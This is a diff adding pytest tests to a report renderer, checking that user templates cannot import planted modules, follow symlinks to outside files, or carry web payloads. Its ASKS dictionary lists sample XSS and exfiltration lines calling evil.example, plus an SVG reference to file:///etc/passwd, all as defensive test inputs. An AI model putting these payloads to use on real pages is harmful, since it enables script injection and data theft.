@@ -130,3 +130,96 @@ def test_a_picture_of_ones_own_is_shown(own: Own, report: Reports, tmp_path: Pat
     (tmp_path / "dot.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>', "utf-8")
     theme = own(sections__plan_html=LEAD.replace("Ours", '<img alt="x" src="dot.svg"/>'))
     assert render_apart(ReportFormat.PDF, report("northside"), theme)[0].startswith(b"%PDF")
+
+
+@pytest.mark.parametrize("module", ["weasyprint", "pickle", "json", "jinja2"])
+def test_no_module_of_the_folder_we_stand_in_is_run(
+    own: Own, report: Reports, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, module: str
+) -> None:
+    (tmp_path / f"{module}.py").write_text("open('ran', 'w').write('x'); raise SystemExit(3)", "utf-8")
+    monkeypatch.chdir(tmp_path)
+    assert render_apart(ReportFormat.MARKDOWN, report("northside"), own(sections__plan_html=LEAD))[0]
+    assert not (tmp_path / "ran").exists()
+
+
+@pytest.mark.parametrize("name", ["link.txt", "own.css", "style.css"])
+def test_a_link_leads_nothing_from_outside_into_a_report(report: Reports, tmp_path: Path, name: str) -> None:
+    folder = tmp_path / "own"
+    folder.mkdir()
+    (tmp_path / "secret").write_text("/* top secret */", "utf-8")
+    (folder / name).symlink_to(tmp_path / "secret")
+    (folder / "sections").mkdir()
+    if name == "link.txt":
+        (folder / "sections" / "open.html.j2").write_text('{% include "link.txt" %}', "utf-8")
+        with pytest.raises(InputError, match="there is no template"):
+            render_apart(ReportFormat.HTML, report("northside"), replace(SOBER, templates=folder))
+    else:
+        data = render_apart(ReportFormat.HTML, report("northside"), replace(SOBER, templates=folder))[0]
+        assert b"top secret" not in data
+
+
+ASKS = {
+    "script": '<script src="https://evil.example/x.js"></script>',
+    "inline": "<script>alert(1)</script>",
+    "picture": '<img alt="" src="https://evil.example/t.png?{{ report.team }}"/>',
+    "handler": '<p onclick="alert(1)">x</p>',
+    "style": '<p style="background: url(https://evil.example/x)">x</p>',
+    "sheet": "<style>@import url(https://evil.example/x.css);</style>",
+    "link": '<link rel="stylesheet" href="https://evil.example/x.css"/>',
+    "frame": '<iframe src="data:text/html,x"></iframe>',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
+    "followed": '<a href="javascript:alert(1)">x</a>',
+    "svg": '<svg><image xlink:href="file:///etc/passwd"/></svg>',
+}
+
+
+@pytest.mark.parametrize("what", ASKS)
+def test_a_web_page_asks_for_nothing_and_runs_nothing(own: Own, report: Reports, what: str) -> None:
+    with pytest.raises(InputError, match=r"The page asks for .*, and a report asks for nothing"):
+        render_apart(ReportFormat.HTML, report("northside"), own(sections__open_html=ASKS[what]))
+
+
+def test_a_web_page_may_show_a_picture_in_itself_and_lead_to_others(own: Own, report: Reports) -> None:
+    long = "https://lantern.example/" + "a" * 60
+    shown = f'<img alt="" src="data:image/png;base64,AAAA"/><a href="{{{{ "{long}" }}}}">us</a><a href="#plan">plan</a>'
+    data = render_apart(ReportFormat.HTML, report("northside"), own(sections__open_html=shown))[0]
+    assert f'href="{long}"' in data.decode()
+
+
+@pytest.mark.parametrize("name", ["own.css", "sections/open.html.j2"])
+def test_a_file_that_is_not_utf_8_is_said_with_its_name(own: Own, report: Reports, tmp_path: Path, name: str) -> None:
+    theme = own(sections__plan_html=LEAD)
+    (tmp_path / name).write_bytes(b"caf\xe9")
+    with pytest.raises(InputError, match=rf"{name}.*UTF-8"):
+        render_apart(ReportFormat.HTML, report("northside"), theme)
+
+
+def test_colours_of_ones_own_may_have_names(own: Own, report: Reports) -> None:
+    theme = own(own_css=":root { --brand: #c00 } h1 { color: var(--brand) }")
+    assert b"var(--brand)" in render_apart(ReportFormat.HTML, report("northside"), theme)[0]
+
+
+def test_a_link_without_its_target_says_which(own: Own, report: Reports) -> None:
+    theme = own(sections__open_html="<p>Nothing here.</p>")
+    with pytest.raises(InputError, match=r"open.*A link leads to an id that your templates left out"):
+        render_apart(ReportFormat.PDF, report("northside"), theme)
+
+
+def test_what_a_style_sheet_gets_wrong_is_told(own: Own, report: Reports) -> None:
+    _, told = render_apart(ReportFormat.PDF, report("northside"), own(own_css="h1 { colour: red }"))
+    assert any("colour" in line for line in told)
+
+
+def test_a_mistake_of_ours_in_there_is_a_bug_and_no_mistake_of_theirs(
+    own: Own, report: Reports, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    broken = tmp_path / "broken"
+    broken.mkdir()
+    (broken / "sitecustomize.py").write_text(
+        "import readiness.report.formats as formats\n"
+        "formats.RENDERERS[formats.ReportFormat.HTML] = lambda report, theme: 1 / 0\n",
+        "utf-8",
+    )
+    monkeypatch.setenv("PYTHONPATH", str(broken))
+    with pytest.raises(RuntimeError, match="ZeroDivisionError"):
+        render_apart(ReportFormat.HTML, report("northside"), own(sections__plan_html=LEAD))
